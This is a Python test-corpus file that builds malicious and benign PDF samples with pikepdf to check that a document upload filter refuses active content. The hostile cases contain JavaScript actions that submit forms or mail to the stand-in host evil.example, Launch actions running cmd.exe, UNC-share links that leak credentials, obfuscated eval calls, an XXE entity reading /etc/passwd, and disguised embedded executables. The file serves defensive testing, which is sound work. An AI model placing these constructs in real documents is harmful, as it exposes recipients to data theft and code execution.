"""PDF files that act, reach out or carry; and the honest forms and links that look like them."""

from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from storage.documents.checks.refusals import Reason
from tests.storage.documents.corpus.case import Case
from tests.storage.documents.corpus.making import archive, blank_pdf, image, word

XML = b'<?xml version="1.0" encoding="UTF-8"?><a/>'
PROGRAM = b"MZ\x90\0" + bytes(60)
Change = Callable[[Pdf], None]


def script(said: str = "app.alert(1)") -> Dictionary:
    """An action of JavaScript."""
    return Dictionary(S=Name.JavaScript, JS=String(said))


def opens(action: Dictionary) -> Change:
    """This action when the document opens."""
    return lambda pdf: setattr(pdf.Root, "OpenAction", action)


def page_opens(action: Dictionary) -> Change:
    """This action when the first page opens."""
    return lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=action))


def closes(action: Dictionary) -> Change:
    """This action when the document closes."""
    return lambda pdf: setattr(pdf.Root, "AA", Dictionary(WC=action))


def annotated(**said: Any) -> Change:
    """An annotation of the page."""
    return lambda pdf: setattr(
        pdf.pages[0].obj, "Annots", Array([Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **said)])
    )


def clicked(**action: Any) -> Change:
    """A link of the page that does this."""
    return annotated(Subtype=Name.Link, A=Dictionary(**action))


def goes_to(target: object, kind: str = "GoToR") -> Change:
    """A link to another document."""
    return clicked(S=Name("/" + kind), F=target, D=Array([0, Name.Fit]))


def addressed(address: str) -> Change:
    """A link to an address."""
    return clicked(S=Name.URI, URI=String(address))


def in_form(*, apart: bool = False, **said: Any) -> Change:
    """A form with one field; `apart` writes its actions as objects of their own."""

    def change(pdf: Pdf) -> None:
        made: dict[str, Any] = dict(said)
        if apart:
            made = {key: pdf.make_indirect(Object.parse(value.unparse())) for key, value in said.items()}
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), Rect=Array([0, 0, 9, 9]), **made
            )
        )
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    return change


def carried(content: bytes, *, name: str = "a.xml", typed: bool = False) -> Change:
    """A file behind a specification, whose stream does not say what it is."""

    def change(pdf: Pdf) -> None:
        stream = pdf.make_stream(content, Type=Name.EmbeddedFile) if typed else pdf.make_stream(content)
        specification = Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), specification])))

    return change


def pinned(content: bytes) -> Change:
    """A file pinned on the page."""

    def change(pdf: Pdf) -> None:
        specification = Dictionary(F=String("a.exe"), EF=Dictionary(F=pdf.make_stream(content)))
        annotated(Subtype=Name.FileAttachment, FS=pdf.make_indirect(specification))(pdf)

    return change


def stream_elsewhere(pdf: Pdf) -> None:
    """A stream whose content is said to be on a share."""
    pdf.Root.Other = pdf.make_stream(b"", F=String("\\\\evil.example\\a"))


def shared_script(pdf: Pdf) -> None:
    """One script, of a field and of the opening."""
    action = pdf.make_indirect(script("event.value = 1"))
    in_form(AA=Dictionary(K=action))(pdf)
    pdf.Root.OpenAction = action


def shared_triggers(pdf: Pdf) -> None:
    """The triggers of a field, lent to the document."""
    triggers = pdf.make_indirect(Dictionary(K=script("event.value = 1"), WC=script("event.value = 1")))
    in_form(AA=triggers)(pdf)
    pdf.Root.AA = triggers


def page_as_field(pdf: Pdf) -> None:
    """A page that says that it is a field."""
    pdf.pages[0].obj.FT = Name.Tx
    page_opens(script("event.value = 1"))(pdf)


def after_a_move(pdf: Pdf) -> None:
    """A move within the document, then a script."""
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=String("a"), Next=pdf.make_indirect(script()))


def in_an_outline(pdf: Pdf) -> None:
    """A bookmark that runs."""
    item = pdf.make_indirect(Dictionary(Title=String("a"), A=pdf.make_indirect(script())))
    pdf.Root.Outlines = Dictionary(First=item, Last=item, Count=1)


def nested(depth: int, change: Change | None = None) -> bytes:
    """A PDF in a PDF."""
    made = blank_pdf(change)
    for _ in range(depth):
        made = blank_pdf(lambda pdf, inner=made: carried(inner, name="a.pdf")(pdf))  # type: ignore[misc]
    return made


LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"))
HOSTILE: Mapping[str, Change] = {
    "a script when its page opens": page_opens(script()),
    "a script when it closes": closes(script()),
    "a script behind a link": clicked(S=Name.JavaScript, JS=String("app.alert(1)")),
    "a script after a move": after_a_move,
    "a script behind a bookmark": in_an_outline,
    "a script of a field, lent to the opening": shared_script,
    "triggers of a field, lent to the document": shared_triggers,
    "a page that says that it is a field": page_as_field,
    "a script when the field's page opens": in_form(AA=Dictionary(PO=script())),
    "a script when the field is seen": in_form(AA=Dictionary(PV=script())),
    "a field that exports a program": in_form(AA=Dictionary(K=script('this.exportDataObject({cName:"a",nLaunch:2})'))),
    "a field that opens a page": in_form(AA=Dictionary(U=script('app.launchURL("http://evil.example")'))),
    "a field that sends": in_form(A=script('this.submitForm("http://evil.example")')),
    "a field that writes a message": in_form(A=script('this.mailDoc({cTo:"a@evil.example"})')),
    "a field that computes its script": in_form(AA=Dictionary(C=script("eval(unescape('%61'))"))),
    "a field that spells its script": in_form(AA=Dictionary(C=script('this["exportData"+"Object"]({})'))),
    "a field that hides its script": in_form(AA=Dictionary(C=script("this.\\x65xport"))),
    "a field that launches": in_form(A=LAUNCH),
    "a field that launches after": in_form(A=Dictionary(S=Name.ResetForm, Next=LAUNCH)),
    "a field that sends to a share": in_form(A=Dictionary(S=Name.SubmitForm, F=String("\\\\evil.example\\a"))),
    "a form sent behind a link": clicked(S=Name.SubmitForm, F=String("https://evil.example")),
    "a form sent at opening": opens(Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
    "a page opened at opening": opens(Dictionary(S=Name.URI, URI=String("https://evil.example"))),
    "a document opened at opening": opens(Dictionary(S=Name.GoToR, F=String("a.pdf"), D=Array([0, Name.Fit]))),
    "a program launched at opening": opens(LAUNCH),
    "data imported": clicked(S=Name.ImportData, F=String("a.fdf")),
    "a film that plays": clicked(S=Name.Rendition),
    "a film": annotated(Subtype=Name.Movie),
    "a page of an active medium": annotated(Subtype=Name.RichMedia),
    "an object in relief": annotated(Subtype=Name("/3D")),
    "a document on a share": goes_to(String("\\\\evil.example\\a\\b.pdf")),
    "a document on a share by slashes": goes_to(String("//evil.example/a/b.pdf")),
    "a document on a share, as PDF writes it": goes_to(String("/evil.example/a/b.pdf")),
    "a document on a share by a specification": goes_to(
        Dictionary(Type=Name.Filespec, UF=String("\\\\evil.example\\a"))
    ),
    "a document on a share for DOS": goes_to(Dictionary(DOS=String("\\\\evil.example\\a"))),
    "a document on a share for Unix": goes_to(Dictionary(Unix=String("/net/evil.example/a"))),
    "a document on a share by file:": goes_to(String("file://evil.example/a.pdf")),
    "a document on a share by an address": goes_to(Dictionary(FS=Name.URL, F=String("file://evil.example/a.pdf"))),
    "a document of the disk": goes_to(String("C:/Windows/a.pdf")),
    "a neighbour that runs": goes_to(String("setup.exe")),
    "an embedded target on a share": goes_to(String("\\\\evil.example\\a.pdf"), "GoToE"),
    "a stream on a share": stream_elsewhere,
    "a link that runs": addressed("javascript:alert(1)"),
    "a link to a share": addressed("\\\\evil.example\\a"),
    "a link to a share by file:": addressed("file://evil.example/a"),
    "a link to a program of the disk": addressed("file:///C:/Windows/System32/calc.exe"),
    "a link to Windows' search": addressed("search-ms:query=a&crumb=location:\\\\evil.example"),
    "a link whose scheme is cut": addressed("java\nscript:alert(1)"),
    "a program carried, untyped": carried(PROGRAM, name="a.exe"),
    "a program carried as XML": carried(PROGRAM),
    "a program pinned on a page": pinned(PROGRAM),
    "a page carried (HTA)": carried(b"<html><script>x</script></html>", name="a.hta"),
    "a page carried as XML": carried(b'<?xml version="1.0"?><html><script>x</script></html>'),
    "a sheet of style carried": carried(b'<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>'),
    "a transformation carried": carried(b'<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="u"/>'),
    "an entity carried": carried(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'),
    "an XML carried under a program's name": carried(XML, name="a.hta"),
    "an XML carried under a screen saver's name": carried(XML, name="facture.xml.scr", typed=True),
    "an archive carried": carried(archive({"a.exe": PROGRAM}), name="a.zip"),
    "a Word document carried": carried(word({"word/vbaProject.bin": b"x"}), name="a.docm"),
    "a picture carried under a program's name": carried(image("PNG"), name="a.exe"),
    "a PDF carried that runs": carried(blank_pdf(opens(script())), name="a.pdf"),
}
HONEST: Mapping[str, Change] = {
    "a field that calculates": in_form(AA=Dictionary(C=script('AFSimple_Calculate("SUM", ["a", "b"]);'))),
    "a field that formats": in_form(
        AA=Dictionary(F=script('AFDate_FormatEx("dd/mm/yyyy");'), K=script('AFDate_KeystrokeEx("dd/mm/yyyy");'))
    ),
    "a field that checks": in_form(AA=Dictionary(V=script("if (event.value < 0) app.alert('Montant négatif');"))),
    "fields whose scripts are apart": in_form(
        apart=True, AA=Dictionary(K=script("AFNumber_Keystroke(2,2,0,0,'',true);"))
    ),
    "a button that prints": in_form(A=script("this.print();")),
    "a button that prints, apart": in_form(apart=True, A=script("this.print();")),
    "a button that empties": in_form(A=Dictionary(S=Name.ResetForm)),
    "a button that sends to the office": in_form(A=Dictionary(S=Name.SubmitForm, F=String("mailto:mdph@example.org"))),
    "a field that helps at its entry": in_form(AA=Dictionary(E=script("event.target.fillColor = color.ltGray;"))),
    "a view at opening": opens(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
    "a printing at opening": opens(Dictionary(S=Name.Named, N=Name.Print)),
    "a link to the web": addressed("https://www.service-public.fr/particuliers?a=b#c"),
    "a link to write": addressed("mailto:anne@example.org"),
    "a link to call": addressed("tel:3939"),
    "a link without scheme": addressed("www.cotesdarmor.fr"),
    "a link to the writer's disk": addressed("file:///C:/Users/anne/devis.pdf"),
    "a link to a neighbour": goes_to(String("annexe.pdf")),
    "a link to a neighbour in a folder": goes_to(Dictionary(Type=Name.Filespec, F=String("pieces/annexe.pdf"))),
    "a link within": clicked(S=Name.GoTo, D=String("titre")),
}
HONEST_CARRYING: Mapping[str, Change] = {
    "an XML, untyped": carried(XML),
    "a picture": carried(image("PNG"), name="photo.png"),
    "a PDF": carried(blank_pdf(), name="annexe.pdf"),
    "an XML whose path is the writer's": carried(XML, name="C:\\Users\\anne\\factur-x.xml"),
}

CASES = (
    *(
        Case(f"a PDF with {about}", "a.pdf", partial(blank_pdf, change), Reason.ACTIVE)
        for about, change in HOSTILE.items()
    ),
    *(Case(f"an honest PDF with {about}", "a.pdf", partial(blank_pdf, change)) for about, change in HONEST.items()),
    *(
        Case(
            f"an honest PDF that carries {about}", "a.pdf", partial(blank_pdf, change), flags=frozenset({"attachments"})
        )
        for about, change in HONEST_CARRYING.items()
    ),
    Case("a PDF in a PDF in a PDF", "a.pdf", lambda: nested(2), flags=frozenset({"attachments"})),
    Case("a PDF four deep", "a.pdf", lambda: nested(4), Reason.BOMB),
    Case("a PDF that runs, two deep", "a.pdf", lambda: nested(2, opens(script())), Reason.ACTIVE),
)
